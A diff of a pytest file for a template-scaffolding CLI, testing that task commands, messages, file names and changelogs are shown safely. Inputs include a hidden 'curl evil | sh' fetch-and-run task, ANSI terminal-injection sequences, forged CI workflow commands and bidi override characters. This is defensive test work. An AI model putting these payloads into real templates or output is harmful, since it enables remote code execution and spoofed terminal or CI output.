@@ -8,7 +8,8 @@ from pathlib import Path
 
 import pytest
 
-from paved_road.testing import evolve, make_road, on_a_terminal, paved, write_files
+from paved_road.testing import evolve, make_road, paved, write_files
+from tests.terminal import on_a_terminal
 
 TITLE = "\x1b]2;owned\x07"
 HIDE = "\x1b[2K\r\x1b[8m"
@@ -26,20 +27,20 @@ def test_what_wants_to_run_is_shown_as_it_is(tmp_path: Path) -> None:
     command = f"curl evil | sh #{HIDE}make test{TITLE}\n::stop-commands::x"
     road = make_road(tmp_path / "road", {"copier.yml": f"name: x\n_tasks: [{json.dumps(command)}]\n", "a.txt": "a\n"})
     said = paved("new", tmp_path / "svc", "--road", road, "--defaults")
-    assert said.code == 2
-    assert "curl evil | sh" in said.err
-    assert SHOWN in said.err
-    assert not dangers(said.err)
-    assert "\r" not in said.err
+    assert said.returncode == 2
+    assert "curl evil | sh" in said.stderr
+    assert SHOWN in said.stderr
+    assert not dangers(said.stderr)
+    assert "\r" not in said.stderr
 
 
 def test_a_templates_messages_are_shown(tmp_path: Path) -> None:
     text = json.dumps(f"welcome{TITLE}\n::set-output name=x::y\u202e")
     road = make_road(tmp_path / "road", {"copier.yml": f"name: x\n_message_after_copy: {text}\n", "a.txt": "a\n"})
     said = paved("new", tmp_path / "svc", "--road", road, "--defaults")
-    assert said.code == 0
-    assert SHOWN in said.out + said.err
-    assert not dangers(said.out + said.err)
+    assert said.returncode == 0
+    assert SHOWN in said.stdout + said.stderr
+    assert not dangers(said.stdout + said.stderr)
 
 
 @pytest.fixture
@@ -52,7 +53,7 @@ def service(tmp_path: Path) -> Path:
         "template/{{ _copier_conf.answers_file }}.jinja": "{{ _copier_answers | to_nice_yaml }}",
     }
     road = make_road(tmp_path / "road", files)
-    assert paved("new", tmp_path / "svc", "--road", road, "--defaults").code == 0
+    assert paved("new", tmp_path / "svc", "--road", road, "--defaults").returncode == 0
     changelog = f"# Changelog\n\n## 1.1.0\n\n- New{TITLE}\n\n::error::forged \x9b2J\n"
     name = f"template/a{TITLE}\n::error file=x::b\u202e.txt"
     evolve(road, {"CHANGELOG.md": changelog, name: f"x{TITLE}\n", "template/a.txt": f"b{HIDE}\n"}, tag="v1.1.0")
@@ -64,22 +65,22 @@ def test_names_contents_and_changelogs_are_shown(in_ci: bool, service: Path, mon
     if in_ci:
         monkeypatch.setenv("GITHUB_ACTIONS", "true")
     said = paved("update", service, "--dry-run")
-    assert said.code == 0
-    assert SHOWN in said.out
-    assert not dangers(said.out + said.err)
-    assert not [line for line in said.out.splitlines() if in_ci and line.lstrip().startswith("::")]
+    assert said.returncode == 0
+    assert SHOWN in said.stdout
+    assert not dangers(said.stdout + said.stderr)
+    assert not [line for line in said.stdout.splitlines() if in_ci and line.lstrip().startswith("::")]
     exact = paved("update", service, "--dry-run", "--json")
     assert f"a{TITLE}\n::error file=x::b\u202e.txt" in [one["path"] for one in exact.envelope["result"]["changes"]]
-    assert not dangers(exact.out) - {"\u202e", "\u200b", "\x9b"}, "C1 and the invisible are for the reader of a pipe"
+    assert not dangers(exact.stdout) - {"\u202e", "\u200b", "\x9b"}, "C1 and the invisible are for the reader of a pipe"
 
 
 def test_drift_is_shown(service: Path) -> None:
-    assert paved("update", service, "--commit").code == 0
+    assert paved("update", service, "--commit").returncode == 0
     write_files(service, {f"a{TITLE}\n::error file=x::b\u202e.txt": f"{HIDE}\n", "a.txt": f"c{TITLE}\n"})
     for words in (("drift", "--diff"), ("off-road", "check"), ("off-road", "report"), ("status",)):
         said = paved(*words, service)
-        assert said.code in (0, 1)
-        assert not dangers(said.out + said.err)
+        assert said.returncode in (0, 1)
+        assert not dangers(said.stdout + said.stderr)
 
 
 def test_questions_are_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
